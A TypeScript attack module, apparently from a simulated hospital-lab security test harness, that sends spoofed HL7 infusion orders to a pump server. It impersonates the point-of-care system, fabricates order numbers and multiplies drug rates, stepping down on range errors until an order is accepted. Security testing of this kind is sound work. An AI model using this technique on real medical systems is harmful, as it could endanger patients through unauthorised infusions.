import { z } from 'zod';
import { buildRgvO15 } from '../../simulators/hl7/pcd/pcd03-infusion-order.ts';
import { sampleDrugLibrary } from '../../simulators/pump/sample-drug-library.ts';
import type { OrderView, PatientView, PumpView } from '../engine/lab-under-test.ts';
import { hl7Parties } from './hl7-parties.ts';
import type { Action, ClientEvidence } from './action.ts';
import { exchangeMllp } from './clients/mllp-exchange.ts';
import { connectionChannel, evidence, evidenceCodes, report, statusOf } from './evidence.ts';
import { addressOf, bySerial, drugEntry, endpointFor, fabricatedId, isIdle, roundRate } from './targets.ts';

const params = z.strictObject({
  /** The spoofed order's rate is the seen order's rate times this. */
  rateFactor: z.number().positive().max(100),
});

/** PIV errors that say the rate is too high (IHE PCD TF-2 Appendix: 9005 outside range, 9014 exceeds maximum). */
const outOfRange = new Set(['9005', '9014']);

/** `factor`, halved while above 1, then 1 itself. */
function rateLadder(factor: number): number[] {
  const ladder: number[] = [];
  for (let tried = factor; tried > 1; tried /= 2) ladder.push(Math.round(tried * 100) / 100);
  return [...ladder, 1];
}

/** Pumps tried at most: each refusal is one more message in the server's log. */
const maxAttempts = 4;
/** The spoofed order claims to come from the point-of-care, to the pump server. */
const { pointOfCare, pumpServer } = hl7Parties;

/**
 * A spoofed [PCD-03] Communicate Infusion Order (RGV^O15, IHE PCD TF-2 3.3.4) to the pump server's
 * HL7 listener over one-way TLS with no client certificate, posing as the point-of-care: the patient
 * of an order the attacker saw at the bedside, a free pump, a fabricated order number (ORC-2), the
 * seen rate times `rateFactor`. MSH-16 AL asks for the application acknowledgement: with no return
 * route for the sender the pump server answers on this connection with the RRG^O16, AA only when the
 * pump took the program (pcd03-handler.ts); with one it answers CA. Done on AA or CA.
 */
export const hl7Order: Action<typeof params> = {
  name: 'hl7-order',
  summary: 'Sends a spoofed PCD-03 infusion order for a seen patient to a free pump.',
  params,
  async run(context, { rateFactor }) {
    const reached = endpointFor(context, 'hl7');
    if (!reached.ok)
      return report('blocked', 'The pump server’s HL7 listener is out of reach.', [reached.evidence]);
    const { observe } = context.lab;
    const targets = candidateTargets(observe.orders(), observe.pumps(), observe.patients());
    if (targets.length === 0)
      return report('blocked', 'No order seen at a bedside.', [
        evidence('hl7', evidenceCodes.noTarget, 'no order seen'),
      ]);
    const items: ClientEvidence[] = [];
    const where = addressOf(reached.endpoint);
    for (const { seen, serial } of targets) {
      // The server names a rate out of range (PIV 9005, 9014): the attacker halves the factor and
      // tries again, down to the seen rate itself, still an order nobody placed.
      for (const factor of rateLadder(rateFactor)) {
        const message = orderMessage(seen, serial, factor, context.lab.now());
        const answer = await exchangeMllp(reached.endpoint, context.attacker.address, message);
        if (!answer.ok) {
          items.push(evidence(connectionChannel(answer.code), answer.code, answer.line, where));
          return report('blocked', 'The pump server’s HL7 listener refused the connection.', items);
        }
        const { code, errors } = answer.ack;
        const detail = [...errors.map((error) => error.code), ...answer.applicationErrors];
        const shown = detail.length > 0 ? `, ERR ${detail.join(',')}` : '';
        items.push(evidence('hl7', code || 'NO_MSA', `MSA-1 ${code}${shown} at ×${factor}`, serial));
        if (code === 'AA' || code === 'CA') {
          return report('done', `The pump server accepted a spoofed order for pump ${serial}.`, items);
        }
        if (!detail.some((error) => outOfRange.has(error))) break;
      }
    }
    return report(statusOf(false), 'The spoofed order was not accepted.', items);
  },
};

/**
 * A patient seen at a bedside and a free pump in the same care area (the pump server refuses a pump
 * of another care area, PIV 9021), orders in the order seen; else the first seen order's own pump.
 * At most `maxAttempts`.
 */
function candidateTargets(
  orders: readonly OrderView[],
  pumps: readonly PumpView[],
  patients: readonly PatientView[],
): { seen: OrderView; serial: string }[] {
  const careAreaOf = new Map(pumps.map((pump) => [pump.serial, pump.careArea]));
  const free = bySerial(pumps).filter((pump) => isIdle(pump) && pump.connected);
  const pairs = orders.flatMap((seen) =>
    free
      .filter((pump) => pump.careArea === careAreaOf.get(seen.serial))
      .map((pump) => ({ seen, serial: pump.serial })),
  );
  // No free pump beside a seen bedside: any patient on a board in a free pump's care area will do,
  // with a drug that area stocks at its highest soft rate.
  const boards = free.flatMap((pump) =>
    patients
      .filter((patient) => patient.careArea === pump.careArea)
      .slice(0, 1)
      .flatMap((patient) => {
        const seen = invented(patient, pump);
        return seen ? [{ seen, serial: pump.serial }] : [];
      }),
  );
  const [first] = orders;
  const fallback = first ? [{ seen: first, serial: first.serial }] : [];
  return [...pairs, ...boards, ...fallback].slice(0, maxAttempts);
}

/** An order the attacker makes up for `patient` on `pump`: a drug its care area stocks in mL/h. */
function invented(patient: PatientView, pump: PumpView): OrderView | undefined {
  const area = sampleDrugLibrary.careAreas.find((candidate) => candidate.id === pump.careArea);
  const drug = area?.drugs.find((entry) => entry.doseUnit === 'mL/h');
  if (!drug) return undefined;
  const rate = drug.limits.softMax ?? drug.limits.hardMax / 2;
  return { orderId: 'seen-on-board', mrn: patient.mrn, serial: pump.serial, drugId: drug.id, rate };
}

function orderMessage(seen: OrderView, serial: string, factor: number, now: number): string {
  const drug = drugEntry(seen.drugId)?.entry;
  return buildRgvO15({
    patient: { mrn: seen.mrn },
    order: {
      placerId: fabricatedId('ORD'),
      drug: { id: seen.drugId, name: drug?.name ?? seen.drugId },
      rate: roundRate(seen.rate * factor),
      vtbi: 250,
    },
    pumpId: serial,
    controlId: fabricatedId('POC'),
    at: now,
    sender: pointOfCare,
    receiver: pumpServer,
    applicationAck: 'AL',
  });
}
